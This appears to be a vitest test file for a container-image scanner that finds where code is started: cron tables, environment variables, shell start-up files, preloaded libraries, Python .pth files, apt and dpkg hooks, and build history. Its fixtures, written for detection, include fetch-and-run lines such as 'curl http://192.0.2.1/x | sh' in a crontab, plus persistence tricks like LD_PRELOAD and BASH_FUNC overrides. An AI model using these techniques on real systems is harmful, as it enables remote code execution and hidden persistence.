import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { ExampleImage } from '../../detectors/detector.ts';
import { factsOf } from '../../testing/facts-of.ts';
import { render } from '../value.ts';
import { worldOf } from '../world.ts';
import { startReaders } from './all.ts';
import { aptCommands } from './apt-hooks.ts';
import { config } from './config.ts';
import { cron } from './cron.ts';
import { env } from './env.ts';
import { history } from './history.ts';
import { interpreterStartup } from './interpreter-startup.ts';
import { ldPreload } from './ld-preload.ts';
import { packageHooks } from './package-hooks.ts';
import { shellStartup } from './shell-startup.ts';
import type { StartDraft, StartReader } from './start.ts';
import { unitSettings } from './unit-file.ts';

/** One line for each start: kind, reach, and what it runs. */
async function starts(read: StartReader, image: ExampleImage): Promise<string[]> {
  return read(worldOf(await factsOf(image))).map((draft) => `${draft.kind} ${draft.reach} ${action(draft)}`);
}

function action({ action: runs }: StartDraft): string {
  switch (runs.kind) {
    case 'argv':
      return `argv ${runs.argv.map(render).join('|')}`;
    case 'code':
      return `${runs.language} ${runs.text}`;
    case 'file':
      return `file ${runs.path}${(runs.args ?? []).length < 2 ? '' : ` (${(runs.args ?? []).map(render).join(' ')})`}${runs.language === undefined ? '' : ` as ${runs.language}`}`;
    case 'this-file':
      return `this ${runs.file.path}`;
    case 'library':
      return `library ${runs.path}`;
  }
}

const cases: readonly (readonly [string, StartReader, ExampleImage, readonly string[]])[] = [
  ['entrypoint and cmd', config, { entrypoint: ['/e', 'a'], cmd: ['b'] }, ['entrypoint runs argv /e|a|b']],
  ['cmd alone', config, { cmd: ['/bin/sh', '-c', 'x y'] }, ['entrypoint runs argv /bin/sh|-c|x y']],
  ['nothing', config, {}, []],
  ['health check without shell', config, { healthcheck: ['CMD', '/h', 'a'] }, ['healthcheck runs argv /h|a']],
  [
    'health check in a shell',
    config,
    { healthcheck: ['CMD-SHELL', 'curl x || exit 1'] },
    ['healthcheck runs shell curl x || exit 1'],
  ],
  ['no health check', config, { healthcheck: ['NONE'] }, []],
  [
    'onbuild',
    config,
    { onbuild: ['RUN x | sh', 'COPY . /', 'RUN ["a", "b"]', 'RUN --mount=type=cache,target=/c d'] },
    ['onbuild armed shell x | sh', 'onbuild armed argv a|b', 'onbuild armed shell d'],
  ],
  [
    'another shell',
    config,
    { shell: ['/bin/bash', '-ec'], healthcheck: ['CMD-SHELL', 'a b'] },
    ['healthcheck runs argv /bin/bash|-ec|a b'],
  ],
  [
    'an entrypoint replaced later',
    config,
    { entrypoint: ['/new'], history: ['ENTRYPOINT ["/old" "x"]', '/bin/sh -c #(nop)  CMD ["a","b c"]', 'CMD echo hi'] },
    [
      'entrypoint runs argv /new',
      'history hidden argv /old|x',
      'history hidden argv a|b c',
      'history hidden argv /bin/sh|-c|echo hi',
    ],
  ],
  [
    'variables that load code',
    env,
    {
      env: [
        'PATH=/bin',
        'LD_PRELOAD=/a.so:/b.so',
        'BASH_ENV=/b',
        'PROMPT_COMMAND=curl x | sh',
        'PYTHONSTARTUP=/p.py',
        'NODE_OPTIONS=--max-old-space-size=1 --require=/n.js -r /m.js',
        'JAVA_TOOL_OPTIONS=-Xmx1g -javaagent:/a.jar=x',
        'GIT_SSH_COMMAND=ssh -o X',
        'BASH_FUNC_ls%%=() { id; }',
        'LESSOPEN=|/l %s',
        'HOME=/root',
        'BASH_ENV=',
      ],
    },
    [
      'env runs library /a.so',
      'env runs library /b.so',
      'env armed file /b as shell',
      'env armed shell curl x | sh',
      'env armed file /p.py as python',
      'env armed file /n.js',
      'env armed file /m.js',
      'env armed library /a.jar',
      'env armed shell ssh -o X',
      'env armed shell ls () { id; }\nls',
      'env armed shell /l %s',
    ],
  ],
  [
    'cron tables',
    cron,
    {
      files: {
        '/etc/crontab':
          'SHELL=/bin/bash\n17 * * * * root cd / && run-parts /etc/cron.hourly\n* * * * * curl http://192.0.2.1/x | sh\n',
        '/etc/cron.d/a': '@reboot root /a\n',
        '/var/spool/cron/crontabs/root': '* * * * * root b\n',
        '/etc/crontabs/root': '*/15 * * * * run-parts /etc/periodic/15min\n',
        '/etc/anacrontab': '1 5 j c d\n',
        '/etc/cron.daily/apt': { content: '#!/bin/sh\nx\n', mode: 0o755 },
        '/etc/cron.daily/.placeholder': '# x\n',
        '/etc/periodic/hourly/z': '#!/bin/sh\n',
      },
    },
    [
      'cron armed shell cd / && run-parts /etc/cron.hourly',
      'cron armed shell curl http://192.0.2.1/x | sh',
      'cron armed shell /a',
      'cron armed shell run-parts /etc/periodic/15min',
      'cron armed shell root b',
      'cron armed shell c d',
      'cron present file /etc/periodic/hourly/z',
      'cron armed file /etc/cron.daily/apt',
    ],
  ],
  [
    'shell start-up files',
    shellStartup,
    {
      files: {
        '/etc/profile': 'x\n',
        '/etc/profile.d/a.sh': 'y\n',
        '/etc/profile.d/README': 'no\n',
        '/root/.bashrc': 'z\n',
        '/home/u/.profile': 'w\n',
      },
    },
    [
      'shell-startup armed file /etc/profile as shell',
      'shell-startup armed file /etc/profile.d/a.sh as shell',
      'shell-startup armed file /home/u/.profile as shell',
      'shell-startup armed file /root/.bashrc as shell',
    ],
  ],
  [
    'preloaded libraries',
    ldPreload,
    { files: { '/etc/ld.so.preload': '# c\n/lib/a.so /lib/b.so # d\n/c.so:/d.so\n' } },
    [
      'ld-preload runs library /lib/a.so',
      'ld-preload runs library /lib/b.so',
      'ld-preload runs library /c.so',
      'ld-preload runs library /d.so',
    ],
  ],
  [
    'python',
    interpreterStartup,
    {
      files: {
        '/usr/lib/python3/dist-packages/sitecustomize.py': 'import os\n',
        '/usr/local/lib/python3.11/site-packages/x.pth': '/some/folder\nimport os; os.system("x")\n',
        '/opt/venv/lib/python3.12/site-packages/y.pth': 'import z\n',
      },
    },
    [
      'interpreter-startup armed file /usr/lib/python3/dist-packages/sitecustomize.py as python',
      'interpreter-startup armed python import os; os.system("x")',
      'interpreter-startup armed python import z',
    ],
  ],
  [
    'package hooks',
    packageHooks,
    {
      files: {
        '/var/lib/dpkg/info/a.postinst': '#!/bin/sh\n',
        '/var/lib/dpkg/info/a.list': '/x\n',
        '/etc/apt/apt.conf.d/1': 'DPkg::Post-Invoke { "rm -f \\"x\\" || true"; "b"; };\nAPT::Keep "no";\n',
        '/etc/dpkg/dpkg.cfg.d/h': '# c\npost-invoke="/x y"\npath-exclude=/z\n',
        '/etc/apk/commit_hooks.d/k': { content: '#!/bin/sh\n', mode: 0o755 },
      },
    },
    [
      'package-hook armed file /var/lib/dpkg/info/a.postinst',
      'package-hook armed shell rm -f "x" || true',
      'package-hook armed shell b',
      'package-hook armed shell /x y',
      'package-hook armed file /etc/apk/commit_hooks.d/k',
    ],
  ],
  [
    'build steps',
    history,
    { history: ['RUN /bin/sh -c curl x | sh # buildkit', 'ENV A=b'] },
    ['history built shell curl x | sh'],
  ],
];

test.each(cases)('%s', async (_name, read, image, expected) => {
  expect(await starts(read, image)).toEqual(expected);
});

test('places: a layer, a path, a line', async () => {
  const world = worldOf(await factsOf({ files: { '/etc/cron.d/a': '# x\n* * * * * root y\n' } }));
  const [draft] = cron(world);
  expect(draft?.where).toMatchObject({ path: '/etc/cron.d/a', line: 2, layer: { index: 0 } });
  expect(draft?.label).toBe('cron: * * * * * root y');
  expect(draft?.schedule).toBe('* * * * *');
});

describe('settings of apt', () => {
  test.each<readonly [string, readonly string[]]>([
    ['DPkg::Post-Invoke {"a";};', ['DPkg::Post-Invoke: a']],
    ['DPkg { Post-Invoke { "a"; "b"; }; };', ['Post-Invoke: a', 'Post-Invoke: b']],
    ['APT::Update::Post-Invoke-Success "c d";', ['APT::Update::Post-Invoke-Success: c d']],
    ['DPkg::Pre-Install-Pkgs:: "e";', ['DPkg::Pre-Install-Pkgs: e']],
    ['// DPkg::Post-Invoke "no";\n/* Post-Invoke "no"; */\n# Post-Invoke "no"\nX "y";', []],
    ['DPkg::Post-Invoke { "a', ['DPkg::Post-Invoke: a']],
  ])('%s', (text, expected) => {
    const found = aptCommands(text).map(({ name, command }) => `${name}: ${command}`);
    expect(found).toEqual(expected);
  });
});

test('every reader of starts in this folder is in the list', () => {
  const found: string[] = [];
  for (const name of readdirSync(import.meta.dirname)) {
    if (!name.endsWith('.ts') || name.endsWith('.test.ts')) continue;
    const text = readFileSync(`${import.meta.dirname}/${name}`, 'utf8');
    for (const [, reader = ''] of text.matchAll(
      /^export function (\w+)\(scene: StartContext\): readonly StartDraft\[\]/gm,
    ))
      found.push(reader);
  }
  expect(startReaders.map((reader) => reader.name).sort()).toEqual(found.sort());
});

test('any text is read without throwing', async () => {
  const piece = fc.constantFrom(
    '[Service]',
    'ExecStart=',
    '\\\n',
    '"',
    '{',
    '}',
    ';',
    'DPkg::Post-Invoke',
    '//',
    '/*',
    '*/',
    '\n',
    '=',
    ':',
    '* * * * * ',
    '%',
    'import os',
    '#',
    '[program:x]\ncommand=',
  );
  const hostile = fc.array(fc.oneof(piece, fc.string()), { maxLength: 40 }).map((parts) => parts.join(''));
  await fc.assert(
    fc.asyncProperty(hostile, async (text) => {
      aptCommands(text);
      unitSettings(text);
      const paths = [
        '/etc/crontab',
        '/etc/inittab',
        '/etc/systemd/system/a.service',
        '/etc/apt/apt.conf',
        '/etc/dpkg/dpkg.cfg',
        '/etc/ld.so.preload',
        '/etc/supervisord.conf',
        '/usr/lib/python3/x.pth',
        '/etc/anacrontab',
        ...[
          '/etc/ssh/sshd_config',
          '/root/.ssh/config',
          '/root/.ssh/authorized_keys',
          '/etc/pam.d/x',
          '/etc/udev/rules.d/x.rules',
        ],
        ...[
          '/etc/network/interfaces',
          '/etc/logrotate.d/x',
          '/etc/rsyslog.d/x.conf',
          '/etc/xdg/autostart/x.desktop',
          '/etc/modprobe.d/x.conf',
        ],
        ...[
          '/etc/sysctl.conf',
          '/usr/lib/binfmt.d/x.conf',
          '/etc/php.ini',
          '/root/.gitconfig',
          '/app/.git/config',
          '/app/package.json',
        ],
        ...[
          '/app/composer.json',
          '/app/pyproject.toml',
          '/app/.yarnrc.yml',
          '/etc/nginx/nginx.conf',
          '/app/Dockerfile',
          '/app/compose.yaml',
        ],
        ...[
          '/var/lib/cloud/seed/user-data',
          '/x.ign',
          '/etc/s6-overlay/s6-rc.d/a/up',
          '/etc/fix-attrs.d/a',
          '/etc/environment',
          '/etc/passwd',
        ],
        ...[
          '/etc/systemd/system/a.timer',
          '/usr/lib/systemd/system-preset/x.preset',
          '/lib/apk/db/scripts.tar',
          '/etc/dnf/plugins/x.conf',
        ],
      ];
      const world = worldOf(
        await factsOf({
          files: Object.fromEntries(paths.map((path) => [path, text])),
          onbuild: [text],
          healthcheck: ['CMD-SHELL', text],
          env: [text, `LD_PRELOAD=${text}`],
          history: [text],
        }),
      );
      for (const read of startReaders) for (const draft of read(world)) expect(draft.label).not.toBe('');
    }),
    { numRuns: 60 },
  );
});
